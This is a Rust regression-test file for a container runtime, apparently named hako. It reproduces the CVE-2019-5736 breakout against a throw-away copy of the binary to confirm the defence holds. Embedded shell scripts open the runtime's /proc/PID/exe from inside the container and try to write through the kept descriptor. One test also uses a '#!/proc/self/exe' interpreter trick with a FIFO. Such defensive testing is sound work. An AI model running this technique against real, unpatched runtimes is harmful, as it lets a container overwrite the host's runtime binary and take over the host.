//! CVE-2019-5736: a process in the container must not be able to overwrite the runtime binary
//! through /proc/<init>/exe. The attack is reproduced for real against a throw-away copy of
//! hako, so a failing defence destroys only the copy.

mod common;
use common::*;
use std::process::Command;

fn sha(path: &std::path::Path) -> Vec<u8> {
    std::fs::read(path).expect("read binary")
}

#[test]
fn container_cannot_overwrite_hako_through_proc_exe() {
    let dir = std::env::temp_dir().join(unique_id("cve-2019-5736"));
    std::fs::create_dir_all(&dir).expect("dir");
    let copy = dir.join("hako");
    std::fs::copy(HAKO, &copy).expect("copy hako");
    let before = sha(&copy);

    let id = unique_id("exe");
    let b = Bundle::new(&id, &["sleep", "30"]);
    let root = dir.join("root");
    let mut c = Command::new(&copy);
    c.arg("--root")
        .arg(&root)
        .args(["create", "-b"])
        .arg(&b.dir)
        .arg(&id);
    let out = detached_output(c);
    assert!(out.status.success(), "create: {}", stderr(&out));
    let state = Command::new(&copy)
        .arg("--root")
        .arg(&root)
        .args(["state", &id])
        .output()
        .expect("state");
    let st: serde_json::Value = serde_json::from_slice(&state.stdout).expect("state json");
    let pid = st["pid"].as_i64().expect("pid");

    // A "container process": in the container's mount and pid namespaces, it grabs
    // /proc/1/exe (the waiting init, still a clone of hako) and, once the init has exec'd
    // and `start` has exited (the test then creates /go: no hako process still runs the
    // binary, so ETXTBSY cannot refuse the write in place of the defence), tries to write
    // through the fd it kept.
    let script = "exec 3</proc/1/exe; while [ \"$(readlink /proc/1/exe)\" != /bin/busybox ]; do sleep 0.05; done; \
                  while [ ! -e /go ]; do sleep 0.05; done; \
                  if echo pwned >> /proc/self/fd/3; then echo WROTE; else echo REFUSED; fi";
    let attacker = Command::new("nsenter")
        .args([
            "-t",
            &pid.to_string(),
            "-m",
            "-p",
            "--",
            "/bin/sh",
            "-c",
            script,
        ])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("nsenter");
    std::thread::sleep(std::time::Duration::from_millis(200));
    let start = Command::new(&copy)
        .arg("--root")
        .arg(&root)
        .args(["start", &id])
        .output()
        .expect("start");
    assert!(start.status.success(), "start: {}", stderr(&start));
    std::fs::write(b.rootfs().join("go"), "").expect("go");
    let out = attacker.wait_with_output().expect("attacker");
    let said = String::from_utf8_lossy(&out.stdout);
    let _ = Command::new(&copy)
        .arg("--root")
        .arg(&root)
        .args(["delete", "-f", &id])
        .output();
    assert!(
        said.contains("REFUSED"),
        "attack result: {said} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(sha(&copy), before, "the runtime binary was modified");
    let _ = std::fs::remove_dir_all(&dir);
}

/// The same attack through `hako exec`: the container makes the exec'd program a script
/// whose interpreter is /proc/self/exe, so the process, still a clone of `hako exec` at
/// execve, runs hako again inside the container. Its argv (`--log=/fifo checkpoint`: the
/// program's relative path, then its argument) makes that hako block opening the log FIFO,
/// so the container can open /proc/PID/exe without a race; it then releases it and, once
/// both hako processes have exited, writes through the fd it kept.
#[test]
fn container_cannot_overwrite_hako_through_exec() {
    let dir = std::env::temp_dir().join(unique_id("cve-2019-5736-exec"));
    std::fs::create_dir_all(&dir).expect("dir");
    let copy = dir.join("hako");
    std::fs::copy(HAKO, &copy).expect("copy hako");
    let before = sha(&copy);
    let hako = |args: &[&str]| {
        let mut c = Command::new(&copy);
        c.arg("--root").arg(dir.join("root")).args(args);
        c
    };

    let id = unique_id("exe-exec");
    let attack = "while :; do \
                    for p in /proc/[0-9]*; do \
                      case \"$(readlink $p/exe)\" in ''|/bin/busybox) ;; *) found=$p; break 2;; esac; \
                    done; sleep 0.02; \
                  done; \
                  exec 3<$found/exe; cat /fifo >/dev/null; \
                  while [ ! -e /go ]; do sleep 0.05; done; \
                  if echo pwned >> /proc/self/fd/3; then echo WROTE >/result; else echo REFUSED >/result; fi; \
                  sleep 100";
    let mut b = Bundle::new(&id, &["sh", "-c", attack]);
    b.edit(|c| c["root"]["readonly"] = false.into());
    let rootfs = b.rootfs();
    let fifo = std::ffi::CString::new(rootfs.join("fifo").to_str().expect("utf8")).expect("c");
    // SAFETY: a NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o666) }, 0);
    // hako is dynamically linked: the image needs its loader and libraries (as any glibc
    // image has) for the kernel to run it as the script's interpreter.
    let ldd = Command::new("ldd").arg(HAKO).output().expect("ldd");
    for lib in String::from_utf8_lossy(&ldd.stdout)
        .split_whitespace()
        .filter(|w| w.starts_with('/'))
    {
        let dest = rootfs.join(lib.trim_start_matches('/'));
        std::fs::create_dir_all(dest.parent().expect("parent")).expect("lib dir");
        std::fs::copy(lib, &dest).expect("copy lib");
    }
    std::fs::create_dir(rootfs.join("--log=")).expect("mkdir");
    std::fs::write(rootfs.join("--log=/fifo"), "#!/proc/self/exe\n").expect("script");
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        rootfs.join("--log=/fifo"),
        std::fs::Permissions::from_mode(0o755),
    )
    .expect("chmod");
    let out = detached_output(hako(&["create", "-b", b.dir.to_str().expect("utf8"), &id]));
    assert!(out.status.success(), "create: {}", stderr(&out));
    let start = hako(&["start", &id]).output().expect("start");
    assert!(start.status.success(), "start: {}", stderr(&start));

    let pjson = dir.join("process.json");
    std::fs::write(
        &pjson,
        r#"{"args":["--log=/fifo","checkpoint"],"env":["PATH=/bin"],"cwd":"/",
            "user":{"uid":0,"gid":0}}"#,
    )
    .expect("process.json");
    let exec = detached_output_within(
        hako(&["exec", "-p", pjson.to_str().expect("utf8"), &id]),
        std::time::Duration::from_secs(30),
    );
    let exec = exec.expect("the exec'd hako was never released: the attacker did not find it");
    // hako ran in the container, got as far as its subcommand and exited: now write.
    assert!(
        stderr(&exec).contains("not implemented"),
        "{:?} {}",
        exec.status,
        stderr(&exec)
    );
    std::fs::write(rootfs.join("go"), "").expect("go");
    let result = rootfs.join("result");
    for _ in 0..500 {
        if std::fs::read_to_string(&result).is_ok_and(|r| r.ends_with('\n')) {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    let said = std::fs::read_to_string(&result).unwrap_or_default();
    let _ = hako(&["delete", "-f", &id]).output();
    assert_eq!(said, "REFUSED\n", "attack result");
    assert_eq!(sha(&copy), before, "the runtime binary was modified");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn proc_exe_of_init_is_read_only_view() {
    let rt = Runtime::new("exe-view");
    let id = unique_id("exeview");
    let b = Bundle::new(&id, &["sleep", "30"]);
    assert!(rt.create(&b, &id).status.success());
    let pid = rt.state(&id)["pid"].as_i64().expect("pid");
    // The init's executable lives on a read-only, detached overlay (or a sealed memfd).
    let f = std::fs::OpenOptions::new()
        .append(true)
        .open(format!("/proc/{pid}/exe"));
    let e = f.expect_err("opening the init's exe for writing must fail");
    // EROFS (overlay view) or EPERM (sealed memfd). Newer kernels (6.12) check for a running
    // executable before the read-only mount, so ETXTBSY is fine too if the file really is on
    // the overlay or a memfd, not the real binary's filesystem.
    assert!(
        matches!(e.raw_os_error(), Some(30) | Some(1) | Some(26)),
        "unexpected error {e}"
    );
    let c = std::ffi::CString::new(format!("/proc/{pid}/exe")).expect("path");
    let mut st = std::mem::MaybeUninit::<libc::statfs>::zeroed();
    // SAFETY: a NUL-terminated path and a valid out-pointer of the right type.
    assert_eq!(unsafe { libc::statfs(c.as_ptr(), st.as_mut_ptr()) }, 0);
    // SAFETY: statfs succeeded, so it filled `st`.
    #[allow(clippy::unnecessary_cast)]
    let fs = unsafe { st.assume_init() }.f_type as i64;
    const OVERLAYFS: i64 = 0x794c_7630;
    const TMPFS: i64 = 0x0102_1994;
    assert!(
        fs == OVERLAYFS || fs == TMPFS,
        "the init runs from filesystem {fs:#x}, not a protected view"
    );
    rt.ok(&["delete", "-f", &id]);
    assert_clean(&rt, &id);
}
